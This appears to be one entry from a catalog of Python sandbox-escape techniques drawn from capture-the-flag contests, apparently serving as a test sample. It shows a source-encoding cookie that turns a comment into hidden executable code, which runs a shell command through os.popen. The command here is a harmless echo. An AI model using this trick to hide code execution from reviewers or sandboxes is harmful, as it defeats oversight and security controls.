# escape: 128
#coding: raw_unicode_escape
# technique: cookie raw_unicode_escape turns a comment into code
# family: syntax
# goal: exec
# first-seen: ImaginaryCTF; LIT CTF
#\u000aif __import__('os').popen('echo rue').read() == 'rue\u005cn': print('ESCAPED:raw_unicode_escape')
